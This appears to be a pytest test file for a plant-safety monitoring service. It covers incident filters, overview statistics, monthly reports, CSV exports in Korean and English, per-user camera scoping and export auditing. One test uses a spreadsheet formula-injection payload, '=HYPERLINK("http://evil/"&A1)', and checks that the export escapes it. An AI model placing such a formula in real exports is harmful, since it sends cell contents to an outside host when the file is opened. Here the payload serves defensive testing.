"""Overview, monthly report and CSV: what a plant's people and their spreadsheets are told."""

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jikimi.serve.sheets import BOM, harmless, sheet
from jikimi.store import CoverageRecord, IncidentRecord
from test_serve_plant import NOON, Plant, leaks, open_plant

JULY = "since=2026-07-01T00:00:00Z&until=2026-08-01T00:00:00Z"


@pytest.fixture
def plant(tmp_path: Path) -> Iterator[Plant]:
    with open_plant(tmp_path) as opened:
        yield opened


def raise_(plant: Plant, uid: str, behavior: str, answer: str | None = None, **more: Any) -> None:
    """An incident of July, a minute after the one before, and what was answered."""
    at = NOON + timedelta(minutes=int(uid[1:]))
    record = IncidentRecord(uid, more.pop("camera", "press-3"), behavior, at, more.pop("peak", 0.7))
    plant.store.open_incident(record, [])
    if answer is not None:
        more["behavior"] = more.pop("really", "")
        plant.store.answer(uid, answer=answer, at=at + timedelta(seconds=40), by="kim", **more)  # type: ignore[arg-type]


def uids(answer: Any) -> list[str]:
    assert answer.status_code == 200, answer.text
    return [row["uid"] for row in answer.json()["incidents"]]


def rows(answer: Any) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    assert answer.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


# --- the list


def test_the_list_is_narrowed_by_every_filter(plant: Plant) -> None:
    raise_(plant, "i10", "jam", "correct", note="벨트에 끼임")
    raise_(plant, "i11", "hit", camera="gate", peak=0.99)
    plant.store.lock("i10", locked=True, at=NOON, by="kim")
    for query, expected in {
        "answer=correct&answer=unanswered": ["i11", "i10", "i2", "i1"],
        "answer=unanswered": ["i11", "i2", "i1"],
        "acknowledged=true": ["i10"],
        "acknowledged=false&camera=gate": ["i11"],
        "locked=true": ["i10"],
        "locked=false&behavior=hit": ["i11"],
        "min_peak=0.9": ["i11"],
        "note=벨트": ["i10"],
        "shift=all&behavior=jam&behavior=hit": ["i11", "i10"],
    }.items():
        assert uids(plant.get(f"/incidents?{query}")) == expected, query


def test_a_shift_that_there_is_not_is_refused_and_a_peak_is_a_share(plant: Plant) -> None:
    refused = plant.get("/incidents?shift=night")
    assert refused.status_code == 422 and "'night' in jikimi.toml" in refused.json()["detail"]
    for query in ("min_peak=1.5", "min_peak=nan", "answer=maybe"):
        assert plant.get(f"/incidents?{query}").status_code == 422


def test_a_total_is_told_where_it_is_asked_for_and_only_up_to_a_bound(
    plant: Plant, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert plant.get("/incidents").json()["total"] is None
    found = plant.get("/incidents?count=true&limit=1").json()
    assert (found["total"], found["total_is_more"]) == (2, False)
    monkeypatch.setattr("jikimi.serve.incidents.MOST_COUNTED", 1)
    found = plant.get("/incidents?count=true").json()
    assert (found["total"], found["total_is_more"]) == (1, True)
    second = plant.get(
        f"/incidents?count=true&limit=1&after={plant.get('/incidents?limit=1').json()['next']}"
    )
    assert (len(uids(second)), second.json()["total"]) == (1, 1)


def test_totals_and_figures_are_of_the_callers_cameras_alone(plant: Plant) -> None:
    raise_(plant, "i10", "jam", "correct", camera="gate", note="nobody else's")
    assert plant.get("/incidents?count=true", "limited").json()["total"] == 1
    assert plant.get("/incidents?count=true&camera=gate", "limited").json()["total"] == 0
    for path in (
        f"/overview?{JULY}", f"/overview?{JULY}&camera=gate", f"/overview.csv?{JULY}",
        "/incidents.csv", "/incidents.csv?camera=gate", "/report?month=2026-07",
        "/report?month=2026-07&camera=gate",
    ):  # fmt: skip
        answer = plant.get(path, "limited")
        assert answer.status_code == 200
        for other in ("gate", "프레스 2", "i10", "nobody", "disk-full", "저장 공간"):
            assert other not in answer.text, (path, other)
    assert plant.get(f"/overview?{JULY}", "limited").json()["incidents"] == 1
    assert plant.get(f"/overview?{JULY}&camera=gate", "limited").json()["incidents"] == 0


# --- the overview


def test_the_overview_tells_behaviours_and_accident_types_in_both_languages(plant: Plant) -> None:
    raise_(plant, "i10", "jam", "correct")
    raise_(plant, "i11", "jam", "false-alarm")
    raise_(plant, "i13", "hit", "unsure")
    raise_(plant, "i14", "bump", "other-behavior", really="fall-off")
    raise_(plant, "i15", "bump", "other-behavior", really="no-accident")
    found = plant.get(f"/overview?{JULY}").json()
    kinds = {row["behavior"]: row for row in found["by_behavior"]}
    assert [row["behavior"] for row in found["by_behavior"]][:5] == [
        "bump", "fall-down", "fall-off", "hit", "jam",
    ]  # fmt: skip
    assert (kinds["jam"]["korean"], kinds["jam"]["accident_type"]) == ("끼임", "끼임")
    assert kinds["fall-off"]["accident_type_english"] == "fall from height"
    assert kinds["jam"]["answers"] | {"x": 0} == {
        "correct": 1, "false_alarm": 1, "other_behavior": 0, "unsure": 0, "unanswered": 0, "x": 0,
    }  # fmt: skip
    types = {row["korean"]: row for row in found["by_accident_type"]}
    assert [*types][:5] == ["부딪힘", "넘어짐", "떨어짐", "물체에 맞음", "끼임"]
    assert (types["끼임"]["raised"], types["끼임"]["confirmed"], types["끼임"]["false_alarms"]) == (2, 1, 1)
    assert (types["떨어짐"]["raised"], types["떨어짐"]["confirmed"]) == (0, 1)
    assert (types["부딪힘"]["raised"], types["부딪힘"]["false_alarms"]) == (2, 1)
    assert types["물체에 맞음"]["undecided"] == 1
    # "fall" of this plant's own model is none that is known: its key, and no accident type.
    assert (kinds["fall"]["korean"], types[""]["raised"]) == ("fall", 2)
    assert sum(row["raised"] for row in types.values()) == found["incidents"] == 7


def test_every_part_of_the_overview_adds_up_to_the_same(plant: Plant) -> None:
    for number in range(10, 40):
        answer = (None, "correct", "false-alarm", "unsure")[number % 4]
        raise_(plant, f"i{number}", "jam", answer, camera=("gate", "press-3")[number % 2])
    found = plant.get(f"/overview?{JULY}").json()
    assert found["incidents"] == 32 == sum(found["answers"].values())
    for part in ("by_behavior", "by_camera", "by_day", "by_week"):
        assert sum(row["incidents"] for row in found[part]) == 32, part
    assert sum(found["by_hour"]) == sum(found["by_weekday"]) == 32
    assert found["by_weekday"][2] == 32  # a Wednesday
    assert sum(bucket["count"] for bucket in found["response"]["answered"]["histogram"]) == 23
    assert found["response"]["answered"]["median_s"] == 40
    assert found["response"]["acknowledged"]["histogram"][1] == {"below_s": 60.0, "count": 23}


def test_false_alarms_come_with_their_interval_and_over_the_hours_seen(plant: Plant) -> None:
    raise_(plant, "i10", "jam", "correct")
    raise_(plant, "i11", "jam", "false-alarm")
    plant.store.add_coverage([CoverageRecord("press-3", NOON, 3600.0, 3600.0)])
    plant.store.add_coverage([CoverageRecord("press-3", NOON + timedelta(hours=1), 1800.0, 3600.0)])
    found = plant.get(f"/overview?{JULY}").json()["false_alarms"]
    assert (found["judged"], found["false_alarms"], found["share"]) == (2, 1, 0.5)
    assert found["share_low"] == pytest.approx(0.0945, abs=1e-4)
    assert found["share_high"] == pytest.approx(0.9055, abs=1e-4)
    assert found["per_camera_hour"] == pytest.approx(1 / 1.5)
    assert found["per_camera_hour_upper"] == pytest.approx(4.7439 / 1.5, abs=1e-3)
    (camera,) = [
        row for row in plant.get(f"/overview?{JULY}").json()["by_camera"] if row["camera"] == "press-3"
    ]
    assert camera["coverage"] == pytest.approx(0.75)


def test_where_nothing_was_seen_or_judged_nothing_is_claimed(plant: Plant) -> None:
    found = plant.get("/overview?since=2025-01-01&until=2025-01-02").json()
    assert found["incidents"] == 0 and found["coverage"]["share"] is None
    nothing = found["false_alarms"]
    assert nothing["share"] is nothing["per_camera_hour"] is nothing["per_camera_hour_upper"] is None
    assert found["response"]["answered"]["median_s"] is None


def test_coverage_by_shift_is_that_of_the_coverage_route(plant: Plant) -> None:
    now = datetime.now(UTC)
    since = now - timedelta(hours=24)
    path = f"/overview?since={since:%Y-%m-%dT%H:%M:%SZ}&until={now + timedelta(hours=1):%Y-%m-%dT%H:%M:%SZ}"
    assert plant.get(path).json()["coverage_by_shift"] == plant.get("/coverage/shifts").json()
    assert len(plant.get(path).json()["coverage_by_shift"]) == 2


@pytest.mark.parametrize(
    "query",
    [
        "since=2026-07-01&until=2026-07-01", "since=2026-07-02&until=2026-07-01",
        "since=2020-01-01&until=2026-07-01", "since=0001-01-01T00:00:00%2B14:00",
        "until=9999-12-31T23:59:59-12:00", "shift=none",
    ],
)  # fmt: skip
def test_ranges_that_make_no_sense_are_refused(plant: Plant, query: str) -> None:
    assert plant.get(f"/overview?{query}").status_code == 422


# --- the report


def test_a_report_is_of_the_plants_month_beside_the_month_before(plant: Plant) -> None:
    raise_(plant, "i10", "jam", "correct", note="손가락, 경상")
    raise_(plant, "i11", "jam", "false-alarm")
    plant.store.open_incident(IncidentRecord("june", "gate", "jam", NOON - timedelta(days=20), 0.7), [])
    found = plant.get("/report?month=2026-07").json()
    assert (found["month"], found["complete"], found["site"]) == ("2026-07", True, "Jikimi")
    assert found["totals"]["incidents"] == {"now": 4, "before": 1, "change": 3}
    assert found["totals"]["confirmed"]["now"] == 1
    assert found["totals"]["false_alarm_share"] == {"now": 0.5, "before": None, "change": None}
    (jam,) = [row for row in found["accident_types"] if row["korean"] == "끼임"]
    assert jam["raised"] == {"now": 2, "before": 1, "change": 1}
    assert [(row["uid"], row["answer_note"]) for row in found["confirmed"]] == [("i10", "손가락, 경상")]
    assert found["overview"]["incidents"] == 4 and not found["confirmed_left_out"]


def test_a_report_of_no_month_is_of_the_last_whole_one(plant: Plant) -> None:
    found = plant.get("/report").json()
    now = datetime.now(UTC)
    assert found["month"] < f"{now:%Y-%m}" and found["complete"]
    for month in ("2026-13", "2026-1", "1999-01", "2026-07-01"):
        assert plant.get(f"/report?month={month}").status_code == 422


# --- tables


def test_incidents_are_exported_in_the_sites_language_or_another(plant: Plant) -> None:
    raise_(plant, "i10", "jam", "correct", note='"벨트",\r\n두 번째 줄')
    korean = plant.get("/incidents.csv")
    assert korean.headers["content-type"].startswith("text/csv; charset=utf-8")
    assert 'filename="jikimi-incidents.csv"' in korean.headers["content-disposition"]
    found = rows(korean)
    assert found[0][:2] == ["번호", "발생 시각"] and [row[0] for row in found[1:]] == ["i10", "i2", "i1"]
    first = dict(zip(found[0], found[1], strict=True))
    assert (first["행동"], first["사고 유형"], first["답"]) == ("끼임", "끼임", "맞음")
    assert first["메모"] == '"벨트",\r\n두 번째 줄'
    english = rows(plant.get("/incidents.csv?language=en&answer=correct"))
    assert english[0][:2] == ["Number", "Opened"] and len(english) == 2
    assert english[1][7] == "caught in or between"


def test_an_export_has_every_incident_once(plant: Plant, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("jikimi.serve.incidents._PAGE", 3)
    for number in range(10, 20):
        raise_(plant, f"i{number}", "jam")
    found = [row[0] for row in rows(plant.get("/incidents.csv"))[1:]]
    assert found == uids(plant.get("/incidents"))


def test_what_operators_write_is_no_formula_of_whoever_opens_it(plant: Plant) -> None:
    raise_(plant, "i10", "jam", "correct", note='=HYPERLINK("http://evil/"&A1)')
    found = rows(plant.get("/incidents.csv"))
    assert dict(zip(found[0], found[1], strict=True))["메모"] == '\'=HYPERLINK("http://evil/"&A1)'


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1), min_size=1))
def test_a_sheet_reads_back_as_it_was_and_no_cell_begins_a_formula(table: list[list[str]]) -> None:
    table = [[cell.replace("\0", "") for cell in row] for row in table]
    text = b"".join(sheet(table)).decode("utf-8")
    assert text.startswith(BOM)
    found = list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))
    assert found == [[harmless(cell) for cell in row] for row in table]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in found for cell in row)


def test_numbers_are_left_as_they_are() -> None:
    assert harmless(-0.5) == -0.5 and harmless("-0.5") == "'-0.5" and harmless(None) is None


def test_the_overview_is_a_table_of_section_key_and_value(plant: Plant) -> None:
    raise_(plant, "i10", "jam", "correct")
    found = rows(plant.get(f"/overview.csv?{JULY}"))
    assert found[0] == ["구분", "항목", "값"] and all(len(row) == 3 for row in found)
    figures = {(section, key): value for section, key, value in found}
    assert len(figures) == len(found)
    assert figures["incidents", "all"] == "3" and figures["by_behavior", "끼임"] == "1"
    assert figures["by_camera", "press-3"] == "2" and figures["by_day", "2026-07-02"] == "0"
    english = rows(plant.get(f"/overview.csv?{JULY}&language=en"))
    assert english[0] == ["section", "key", "value"]
    assert ["by_accident_type", "caught in or between · confirmed", "1"] in english
    assert not leaks(plant.get(f"/overview.csv?{JULY}").text)


def test_exports_are_audited_with_their_range(plant: Plant) -> None:
    plant.get(f"/incidents.csv?{JULY}&answer=unanswered&shift=all&language=en", "limited")
    plant.get(f"/overview.csv?{JULY}")
    overview, incidents = plant.get("/audit", "admin").json()
    assert (overview["who"], overview["what"]) == ("viewer", "exported overview")
    assert overview["details"]["since"] == "2026-07-01T00:00:00+00:00"
    assert (incidents["who"], incidents["what"]) == ("limited", "exported incidents")
    assert incidents["details"]["camera"] == ["press-3"] and incidents["details"]["answers"] == [None]
    assert incidents["details"]["until"] == "2026-08-01T00:00:00+00:00"
    assert incidents["details"]["within"][0]["start"] == "00:00"
